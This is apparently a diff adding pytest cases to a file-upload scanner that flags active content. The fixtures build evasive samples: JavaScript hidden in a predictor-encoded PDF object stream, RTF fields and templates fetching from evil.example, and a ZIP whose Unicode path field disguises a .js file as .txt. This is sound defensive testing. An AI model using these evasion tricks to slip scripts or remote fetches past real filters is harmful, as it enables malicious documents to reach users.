@@ -247,3 +247,91 @@ def test_an_ordinary_field_split_across_runs_is_not_withheld() -> None:
         active_content("r.docx", _docx(_field("PAGE", " \\* MERGEFORMAT") + _field("NUMPAGES")))
         == ""
     )
+
+
+# --- what else hid, and what was refused for nothing (R3 #5-#8, #12, H38) -------------------
+
+
+def _pdf_objstm(parms: bytes, encoded: bytes) -> bytes:
+    return (
+        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
+        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode"
+        + parms
+        + b"/Length %d>>stream\n" % len(encoded)
+        + encoded
+        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+    )
+
+
+def test_a_pdf_object_stream_under_a_predictor_is_unchecked() -> None:
+    objs = b"3 0 <</S/JavaScript/JS(app.alert(1))>>"
+    rows = [objs[i : i + 4].ljust(4, b" ") for i in range(0, len(objs), 4)]
+    encoded = zlib.compress(b"".join(b"\x00" + r for r in rows))  # PNG predictor, type None
+    pdf = _pdf_objstm(b"/DecodeParms<</Predictor 12/Columns 4>>", encoded)
+    assert active_content("r.pdf", pdf) == "unchecked"
+
+
+def test_a_ppt_is_unchecked_its_macros_and_objects_live_in_its_document_stream() -> None:
+    from test_inert_bypasses import _ole
+
+    assert active_content("slides.ppt", _ole({"PowerPoint Document": b"\x00" * 64})) == "unchecked"
+
+
+@pytest.mark.parametrize(
+    "rtf",
+    [
+        b'{\\rtf1{\\field{\\*\\fldinst1 INCLUDEPICTURE "http://evil.example/a.png" \\\\d}'
+        b"{\\fldrslt x}}}",
+        b"{\\rtf1{\\*\\template1 http://evil.example/t.dotm}x}",
+    ],
+    ids=["fldinst1", "template1"],
+)
+def test_an_rtf_control_word_with_a_numeric_parameter_still_fetches(rtf: bytes) -> None:
+    assert active_content("r.rtf", rtf) == "links"
+
+
+def test_a_zip_member_with_a_unicode_path_extra_field_is_unchecked() -> None:
+    out = io.BytesIO()
+    info = zipfile.ZipInfo("notes.txt")
+    name = b"notes.js"
+    # Info-ZIP Unicode Path (0x7075): version 1, CRC-32 of the header name, the real name
+    body = b"\x01" + struct.pack("<I", zlib.crc32(b"notes.txt")) + name
+    info.extra = struct.pack("<HH", 0x7075, len(body)) + body
+    with zipfile.ZipFile(out, "w") as zf:
+        zf.writestr(info, b"WScript.Echo(1)")
+    assert active_content("r.zip", out.getvalue()) == "unchecked"
+
+
+def test_a_presentation_with_a_native_chart_is_not_withheld() -> None:
+    rels = (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/package" '
+        'Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/></Relationships>'
+    )
+    book = io.BytesIO()
+    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml", _CT)
+        zf.writestr("xl/workbook.xml", "<workbook/>")
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml", _CT)
+        zf.writestr("ppt/charts/chart1.xml", "<c:chartSpace/>")
+        zf.writestr("ppt/charts/_rels/chart1.xml.rels", rels)
+        zf.writestr("ppt/embeddings/Microsoft_Excel_Worksheet.xlsx", book.getvalue())
+    assert active_content("slides.pptx", out.getvalue()) == ""
+
+
+def test_a_pdf_opening_at_a_page_that_has_a_web_link_is_not_withheld() -> None:
+    pdf = (
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>"
+        b"endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>endobj\n"
+        b"4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 100 20]"
+        b"/A<</S/URI/URI(https://www.most.gov.vn/)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+    )
+    assert active_content("scan.pdf", pdf) == ""
+    indirect = pdf.replace(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", b"/OpenAction 6 0 R")
+    indirect = indirect.replace(b"trailer", b"6 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj\ntrailer")
+    assert active_content("scan.pdf", indirect) == ""
